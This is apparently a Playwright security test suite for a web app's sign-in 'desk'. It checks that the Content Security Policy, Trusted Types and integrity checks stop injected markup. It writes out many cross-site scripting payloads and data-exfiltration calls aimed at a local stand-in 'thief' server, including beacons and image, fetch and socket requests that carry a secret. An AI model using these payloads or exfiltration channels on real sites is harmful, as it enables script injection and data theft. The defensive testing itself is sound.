import type { Page } from '@playwright/test'
import { expect, forgive, openDesk, test } from '#tests/journeys/desk'
import { openFalseHost } from '#tests/journeys/false-host'
import { openThief, type Thief } from '#tests/journeys/thief'

/** Markup that does harm wherever text becomes markup. */
const payloads = (thief: string): string => `
  <script>window.stolen = 'by an inline script'</script>
  <script type="module">window.stolen = 'by an inline module'</script>
  <script src="${thief}/script.js"></script>
  <script src="data:text/javascript,window.stolen='by data'"></script>
  <img src="/nowhere.png" onerror="window.stolen = 'by a handler'">
  <svg onload="window.stolen = 'by svg'"><script>window.stolen = 'by a script in svg'</script></svg>
  <body onpageshow="window.stolen = 'by body'">
  <details open ontoggle="window.stolen = 'by toggle'"><summary>x</summary></details>
  <input autofocus onfocus="window.stolen = 'by focus'">
  <iframe src="javascript:parent.stolen = 'by a frame'"></iframe>
  <iframe srcdoc="<script>parent.stolen = 'by srcdoc'</script>"></iframe>
  <iframe src="${thief}/frame"></iframe>
  <object data="${thief}/object"></object><embed src="${thief}/embed">
  <a id="trap" href="javascript:window.stolen = 'by a link'">trap</a>
  <form id="form" action="${thief}/form" method="post"><input name="secret" value="S"><button id="send">send</button></form>
  <img src="${thief}/image?secret=S"><picture><source srcset="${thief}/source"><img src="data:,"></picture>
  <video src="${thief}/video" poster="${thief}/poster"></video><audio src="${thief}/audio"></audio>
  <link rel="stylesheet" href="${thief}/style.css"><link rel="prefetch" href="${thief}/prefetch"><link rel="preload" as="fetch" href="${thief}/preload"><link rel="modulepreload" href="${thief}/module.js">
  <style>body { background: url(${thief}/css) }</style><p style="background: url(${thief}/attribute)">x</p>
  <base href="${thief}/"><script src="relative.js"></script>`

const stolen = 'window.stolen'

let thief: Thief
test.beforeEach(async () => {
  thief = await openThief()
})
test.afterEach(() => thief.close())

test('a page full of what attackers write, under the desk\'s own policy: nothing runs and nothing leaves', async ({ page, complaints, baseURL }) => {
  const host = await openFalseHost(baseURL ?? '', { markup: payloads(thief.origin), policy: true })
  await page.goto(`${host.origin}/desk`)
  // The desk's own script runs beside all that.
  await page.getByRole('heading', { level: 1, name: 'Sign in' }).waitFor()
  await page.evaluate("document.querySelector('#trap').click()")
  await page.evaluate("document.querySelector('#send').click()")
  await page.waitForLoadState('networkidle')
  expect(await page.evaluate(stolen)).toBeUndefined()
  expect(thief.took).toEqual([])
  expect(complaints.some((text) => /Content Security Policy/.test(text))).toBe(true)
  await forgive(page, complaints)
  host.close()
})

test('the same page without the policy is robbed: the journeys here see what there is to see', async ({ page, complaints, baseURL }) => {
  const host = await openFalseHost(baseURL ?? '', { markup: payloads(thief.origin), policy: false })
  await page.goto(`${host.origin}/desk`)
  expect(await page.evaluate(stolen)).toBeDefined()
  for (const way of ['script.js', 'image', 'style.css', 'css', 'frame', 'video', 'prefetch', 'module.js']) await expect.poll(() => thief.took.join(' '), way).toContain(`/${way}`)
  await forgive(page, complaints)
  host.close()
})

test('from a page without the policy the ways out are open', async ({ page, complaints, baseURL }) => {
  const host = await openFalseHost(baseURL ?? '', { markup: '', policy: false })
  await page.goto(`${host.origin}/desk`)
  for (const [what, code] of WAYS_OUT.slice(0, 3)) expect(await tryOut(page, code), what).toBe('out')
  await page.evaluate(`navigator.sendBeacon(${JSON.stringify(`${thief.origin}/beacon`)}, 'secret')`)
  await expect.poll(() => thief.took).toContain('POST /beacon')
  await forgive(page, complaints)
  host.close()
})

/** Each is tried inside the running desk. What it gives is how it ended. */
const SINKS: readonly (readonly [what: string, code: string])[] = [
  ['innerHTML', 'document.body.innerHTML = HTML'],
  ['outerHTML', "document.querySelector('main').outerHTML = HTML"],
  ['insertAdjacentHTML', "document.body.insertAdjacentHTML('beforeend', HTML)"],
  ['document.write', 'document.write(HTML)'],
  ['a fragment of a range', 'document.createRange().createContextualFragment(HTML)'],
  ['setHTMLUnsafe', 'document.body.setHTMLUnsafe(HTML)'],
  ['DOMParser', "new DOMParser().parseFromString(HTML, 'text/html')"],
  ['srcdoc', "Object.assign(document.createElement('iframe'), { srcdoc: HTML })"],
  ['the text of a script', "Object.assign(document.createElement('script'), { text: 'window.stolen = 1' })"],
  ['the address of a script', "Object.assign(document.createElement('script'), { src: '/desk/assets/x.js' })"],
  ['eval', "(0, eval)('window.stolen = 1')"],
  ['Function', "new Function('window.stolen = 1')()"],
  ['a timer of text', "setTimeout('window.stolen = 1', 0)"],
  ['a handler of text', "document.body.setAttribute('onclick', 'window.stolen = 1')"],
  ['a worker by its address', "new Worker('/desk/assets/keys.js')"],
  ['a worker from memory', "new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))"],
  ['the desk\'s own policy a second time', "trustedTypes.createPolicy('waystation-worker', { createScriptURL: (x) => x })"],
  ['a policy for everything', "trustedTypes.createPolicy('default', { createHTML: (x) => x })"],
]

test('text does not become script, by whatever sink', async ({ page, complaints }) => {
  await openDesk(page)
  for (const [what, code] of SINKS) {
    // In a turn of its own: what a debugger evaluates may evaluate text itself.
    const ended = await page.evaluate(
      `new Promise((done) => setTimeout(() => { const HTML = '<img src=q onerror="window.stolen = 1">'; try { ${code}; done('done') } catch (fault) { done(fault.name) } }))`,
    )
    expect(ended, `${what}: it is refused`).toMatch(/TypeError|EvalError/)
  }
  expect(await page.evaluate(stolen)).toBeUndefined()
  await forgive(page, complaints)
})

/** Ways out for what somebody has got hold of. A promise that fails, or a value that is false, is a way that is shut. */
const WAYS_OUT: readonly (readonly [what: string, code: string])[] = [
  ['fetch', 'fetch(THIEF + "/fetch").then(() => "out")'],
  ['fetch without an answer', 'fetch(THIEF + "/opaque", { mode: "no-cors" }).then(() => "out")'],
  ['an old request', 'new Promise((done) => { const asked = new XMLHttpRequest(); asked.open("GET", THIEF + "/xhr"); asked.onload = () => done("out"); asked.onerror = () => done("shut"); asked.send() })'],
  ['an image', 'new Promise((done) => { const image = new Image(); image.onload = () => done("out"); image.onerror = () => done("shut"); image.src = THIEF + "/pixel" })'],
  ['a socket', 'new Promise((done) => { const socket = new WebSocket(THIEF.replace("http", "ws")); socket.onopen = () => done("out"); socket.onerror = () => done("shut") })'],
  ['a stream of events', 'new Promise((done) => { const source = new EventSource(THIEF + "/events"); source.onopen = () => done("out"); source.onerror = () => done("shut") })'],
  ['an import', 'import(THIEF + "/module.js").then(() => "out")'],
  ['an import of text', 'import("data:text/javascript,window.stolen=1").then(() => "out")'],
  ['a service worker', 'navigator.serviceWorker.register("/desk/assets/x.js").then(() => "out")'],
]

const tryOut = (page: Page, code: string): Promise<unknown> => page.evaluate(`(async () => { const THIEF = ${JSON.stringify(thief.origin)}; try { return await (${code}) } catch { return 'shut' } })()`)

test('nothing leaves by fetch, image, socket, import or beacon', async ({ page, complaints }) => {
  await openDesk(page)
  for (const [what, code] of WAYS_OUT) {
    expect(await tryOut(page, code), what).toBe('shut')
  }
  await page.evaluate(`navigator.sendBeacon(${JSON.stringify(`${thief.origin}/beacon`)}, 'secret')`)
  await page.waitForLoadState('networkidle')
  expect(thief.took).toEqual([])
  expect(await page.evaluate(stolen)).toBeUndefined()
  await forgive(page, complaints)
})

test('the one way that no policy shuts is known: a page that runs foreign script could still go elsewhere', async ({ page }) => {
  await openDesk(page)
  await page.evaluate(`location.href = ${JSON.stringify(`${thief.origin}/gone?secret=S`)}`)
  await page.waitForURL(/gone/)
  expect(thief.took[0]).toBe('GET /gone?secret=S')
})

test('a part that comes later and was changed on the way does not run, and the desk stays', async ({ page, complaints }) => {
  await openDesk(page)
  await page.route('**/desk/assets/part-browser-page-*.js', async (route) => {
    const real = await route.fetch()
    await route.fulfill({ response: real, body: `window.stolen = 1;${await real.text()}` })
  })
  await page.getByRole('link', { name: 'This browser' }).click()
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Something went wrong here')
  expect(await page.evaluate(stolen)).toBeUndefined()
  expect(complaints.some((text) => /integrity/.test(text)), complaints.join('\n')).toBe(true)
  await forgive(page, complaints)
})

test('a part of the desk that was changed on the way does not run', async ({ page, complaints }) => {
  await page.route('**/desk/assets/desk-*.js', async (route) => {
    const real = await route.fetch()
    await route.fulfill({ response: real, body: `window.stolen = 1;${await real.text()}` })
  })
  const refused = page.waitForEvent('console', (message) => /integrity/.test(message.text()))
  await page.goto('/desk')
  await refused
  expect(await page.evaluate(stolen)).toBeUndefined()
  await expect(page.getByRole('heading', { level: 1 })).toHaveCount(0)
  await forgive(page, complaints)
})
